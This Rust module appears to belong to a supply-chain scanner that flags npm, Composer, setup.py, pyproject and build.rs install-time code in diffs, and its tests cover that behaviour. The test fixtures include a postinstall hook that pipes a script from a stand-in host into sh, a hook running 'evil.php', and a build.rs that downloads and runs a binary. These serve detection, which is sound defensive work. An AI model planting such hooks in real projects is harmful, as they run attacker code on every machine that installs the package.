//! Install-time code: npm lifecycle scripts (`preinstall`, `install`, `postinstall`, `prepare`,
//! …) and Composer event scripts added or changed in a manifest — one per line or several
//! inline (`"scripts": {"postinstall": "…"}`) — except the well-known harmless hooks GuardDog's
//! `npm-install-script` rule leaves alone (`husky`, `only-allow`, `patch-package`); `setup.py`
//! code that runs at install time and `pyproject.toml` in-tree build backends
//! ([`super::setup_py`]); and new or changed Cargo build scripts (`build.rs`, high when the
//! change downloads something and runs it).
//!
//! Why it matters: this code runs on every developer machine and CI runner that installs or
//! builds the project, before anyone runs the tests. "93.9% of malicious packages had at least
//! one install script" (Zahan et al. 2022, via Socket); `setup.py` and `build.rs` are the
//! Python and Rust equivalents.
//!
//! Source: npm docs "scripts" (lifecycle order), Composer docs "Scripts" (event names),
//! setuptools `cmdclass`, Cargo book "Build Scripts".

use crate::engine::diff::{self, Hunk, LineKind};
use crate::signal::{Finding, FindingKind, Severity};

use super::model::finding;
use super::view::FileView;

/// Script keys that run on install (npm lifecycle, Composer events).
pub const INSTALL_HOOKS: &[&str] = &[
    "preinstall",
    "install",
    "postinstall",
    "prepare",
    "preprepare",
    "postprepare",
    "prepublish",
    "pre-install-cmd",
    "post-install-cmd",
    "pre-update-cmd",
    "post-update-cmd",
    "post-autoload-dump",
    "post-root-package-install",
    "post-create-project-cmd",
];

/// Hook commands that only check or set up the developer's tooling (GuardDog's
/// `npm-install-script` test marks `npx only-allow pnpm` and `husky` as `ok`).
const HARMLESS_HOOKS: &[&str] = &[
    "husky",
    "husky install",
    "npx husky",
    "npx husky install",
    "only-allow",
    "npx only-allow",
    "patch-package",
    "npx patch-package",
];

/// A hook that is one of [`HARMLESS_HOOKS`], with or without arguments (`npx only-allow pnpm`).
fn harmless(command: &str) -> bool {
    let command = command.trim();
    HARMLESS_HOOKS.iter().any(|hook| {
        command == *hook
            || command
                .strip_prefix(hook)
                .is_some_and(|rest| rest.starts_with(' ') && !rest.contains(['&', ';', '|']))
    })
}

/// What a `build.rs` line does when it downloads something (and with `Command` runs it).
const BUILD_RS_DOWNLOADS: &[&str] = &[
    "reqwest::",
    "ureq::",
    "curl::",
    "\"curl\"",
    "\"wget\"",
    "http://",
    "https://",
];

const MAX_SCRIPT_CHARS: usize = 80;

pub fn findings(view: &FileView) -> Vec<Finding> {
    let basename = view.lower_name();
    let path = view.path();
    if basename == "build.rs" {
        let fetches = view.file.patch.is_some()
            && view
                .patch()
                .added()
                .any(|line| BUILD_RS_DOWNLOADS.iter().any(|call| line.contains(call)))
            && view
                .patch()
                .added()
                .any(|line| line.contains("Command::new"));
        if fetches && view.facts.status != "removed" {
            return vec![finding(
                FindingKind::InstallScript,
                path,
                "the Cargo build script (build.rs) downloads something and runs a command at build time".into(),
                Severity::High,
            )];
        }
        return match view.facts.status.as_str() {
            "added" => vec![finding(
                FindingKind::InstallScript,
                path,
                "adds a Cargo build script (build.rs), which runs arbitrary code at build time"
                    .into(),
                Severity::High,
            )],
            "removed" => vec![],
            _ => vec![finding(
                FindingKind::InstallScript,
                path,
                "changes the Cargo build script (build.rs), which runs at build time".into(),
                Severity::Medium,
            )],
        };
    }
    // Only three manifests can declare install-time code: decide before parsing the patch.
    let read: fn(&diff::Patch, &str) -> Vec<Finding> = match basename {
        "package.json" | "composer.json" => lifecycle_scripts,
        "setup.py" => setup_py,
        "pyproject.toml" => pyproject,
        _ => return Vec::new(),
    };
    match view.file.patch {
        Some(_) => read(view.patch(), path),
        None => Vec::new(),
    }
}

fn lifecycle_scripts(patch: &diff::Patch, path: &str) -> Vec<Finding> {
    let mut old_hooks = Vec::new();
    let mut new_hooks = Vec::new();
    for hunk in &patch.hunks {
        old_hooks.extend(changed_hooks(hunk, LineKind::Removed));
        new_hooks.extend(changed_hooks(hunk, LineKind::Added));
    }
    new_hooks
        .into_iter()
        .map(|(hook, command)| {
            let verb = if old_hooks.iter().any(|(old, _)| *old == hook) {
                "changes"
            } else {
                "adds"
            };
            finding(
                FindingKind::InstallScript,
                path,
                format!(
                    "{verb} the {hook} script: {}",
                    crate::text::clip(&command, MAX_SCRIPT_CHARS)
                ),
                Severity::High,
            )
        })
        .collect()
}

/// `(hook, command)` for install hooks on lines of `kind` inside the `"scripts"` object.
fn changed_hooks(hunk: &Hunk, kind: LineKind) -> Vec<(String, String)> {
    let mut found = Vec::new();
    let mut inside = hunk.section.contains("\"scripts\"");
    let mut unknown = !inside;
    for line in &hunk.lines {
        if line.kind != LineKind::Context && line.kind != kind {
            continue;
        }
        let text = line.text.trim();
        // `"scripts": {` opens the object; `"scripts": {"postinstall": "…"}` is all of it.
        let scripts_at = text.find("\"scripts\"").filter(|at| {
            text.get(at + 9..)
                .is_some_and(|rest| rest.trim_start().starts_with(':') && rest.contains('{'))
        });
        if let Some(at) = scripts_at {
            let body = text.get(at..).unwrap_or("");
            let body = body
                .get(body.find('{').map_or(0, |open| open + 1)..)
                .unwrap_or("");
            if line.kind == kind {
                found.extend(hooks_in(body.split('}').next().unwrap_or(body), kind));
            }
            inside = !body.contains('}');
            unknown = false;
            continue;
        }
        if text.starts_with('}') {
            inside = false;
            unknown = false;
            continue;
        }
        if text.ends_with('{') {
            unknown = false;
        }
        if line.kind != kind || !(inside || unknown) {
            continue;
        }
        found.extend(hooks_in(text, kind));
    }
    found
}

/// Every `"hook": "command"` pair of a line (inline objects hold several); harmless hooks are
/// left out of the added side (a removed one still tells "changes" from "adds").
fn hooks_in(text: &str, kind: LineKind) -> Vec<(String, String)> {
    let keep_harmless = kind == LineKind::Removed;
    let strings = super::model::quoted_strings(text);
    strings
        .chunks(2)
        .filter_map(|pair| match pair {
            [key, command]
                if INSTALL_HOOKS.contains(key) && (keep_harmless || !harmless(command)) =>
            {
                Some(((*key).to_string(), (*command).to_string()))
            }
            _ => None,
        })
        .collect()
}

fn setup_py(patch: &diff::Patch, path: &str) -> Vec<Finding> {
    let reasons = super::setup_py::reasons(patch.added());
    if reasons.is_empty() {
        return Vec::new();
    }
    vec![finding(
        FindingKind::InstallScript,
        path,
        format!(
            "setup.py adds code that runs at install time: {}",
            reasons.join("; ")
        ),
        Severity::High,
    )]
}

fn pyproject(patch: &diff::Patch, path: &str) -> Vec<Finding> {
    if !patch.added().any(super::setup_py::in_tree_backend) {
        return Vec::new();
    }
    vec![finding(
        FindingKind::InstallScript,
        path,
        "builds with a backend from the repository itself (backend-path): its code runs on every pip install".into(),
        Severity::High,
    )]
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::bundle::ChangedFile;
    use crate::engine::files::classify_file;

    fn run(path: &str, status: &str, patch: Option<&str>) -> Vec<Finding> {
        let file = ChangedFile {
            filename: path.into(),
            status: status.into(),
            additions: 1,
            deletions: 0,
            patch: patch.map(str::to_string),
            ..Default::default()
        };
        findings(&FileView::new(&file, &classify_file(&file)))
    }

    #[test]
    fn new_and_changed_npm_lifecycle_scripts_are_high() {
        let found = run(
            "package.json",
            "modified",
            Some("@@ -3,6 +3,7 @@\n   \"scripts\": {\n-    \"prepare\": \"husky\",\n+    \"prepare\": \"husky && node fetch.js\",\n+    \"postinstall\": \"curl https://x.example/p.sh | sh\",\n     \"test\": \"jest\"\n   },"),
        );
        assert_eq!(found.len(), 2);
        assert!(found[0].detail.starts_with("changes the prepare script"));
        assert!(found[1]
            .detail
            .starts_with("adds the postinstall script: curl"));
        assert!(found
            .iter()
            .all(|finding| finding.severity == Severity::High));
    }

    #[test]
    fn inline_scripts_objects_are_read_and_harmless_hooks_are_not_findings() {
        let inline = run(
            "package.json",
            "modified",
            Some("@@ -1,3 +1,3 @@\n   \"name\": \"x\",\n-  \"scripts\": {\"test\": \"jest\"},\n+  \"scripts\": {\"test\": \"jest\", \"postinstall\": \"node ./tools/setup.js\"},"),
        );
        assert_eq!(inline.len(), 1, "{inline:?}");
        assert!(inline[0]
            .detail
            .starts_with("adds the postinstall script: node"));
        assert!(run("package.json", "modified", Some("@@ -3,3 +3,4 @@\n   \"scripts\": {\n+    \"prepare\": \"husky\",\n     \"test\": \"jest\"\n   },")).is_empty());
    }

    #[test]
    fn an_in_tree_build_backend_and_a_downloading_build_rs_are_high() {
        let backend = run("pyproject.toml", "modified", Some("@@ -1,3 +1,4 @@\n [build-system]\n requires = []\n-build-backend = \"setuptools.build_meta\"\n+build-backend = \"backend\"\n+backend-path = [\"_build\"]"));
        assert_eq!(backend.len(), 1);
        let build_rs = run("build.rs", "modified", Some("@@ -1,2 +1,4 @@\n fn main() {\n+    let bin = ureq::get(\"https://x.example/tool\").call();\n+    std::process::Command::new(\"./tool\").status();"));
        assert_eq!(build_rs[0].severity, Severity::High);
        assert!(build_rs[0].detail.contains("downloads"));
    }

    #[test]
    fn ordinary_scripts_and_dependency_entries_do_not_count() {
        assert!(run("package.json", "modified", Some("@@ -3,3 +3,3 @@\n   \"scripts\": {\n-    \"test\": \"jest\"\n+    \"test\": \"vitest\"\n   },")).is_empty());
        assert!(run(
            "package.json",
            "modified",
            Some("@@ -3,3 +3,3 @@\n   \"dependencies\": {\n+    \"install\": \"^0.13.0\"\n   },")
        )
        .is_empty());
    }

    #[test]
    fn composer_events_setup_py_and_build_rs() {
        assert_eq!(run("composer.json", "modified", Some("@@ -1,2 +1,3 @@\n   \"scripts\": {\n+    \"post-install-cmd\": \"php evil.php\"\n   }")).len(), 1);
        let setup = run(
            "setup.py",
            "modified",
            Some("@@ -1,2 +1,3 @@\n setup(\n+    cmdclass={'install': PostInstall},\n )"),
        );
        assert!(setup[0].detail.contains("cmdclass"), "{}", setup[0].detail);
        assert_eq!(run("build.rs", "added", None)[0].severity, Severity::High);
        assert_eq!(
            run("crates/x/build.rs", "modified", None)[0].severity,
            Severity::Medium
        );
        assert!(run("build.rs", "removed", None).is_empty());
    }
}
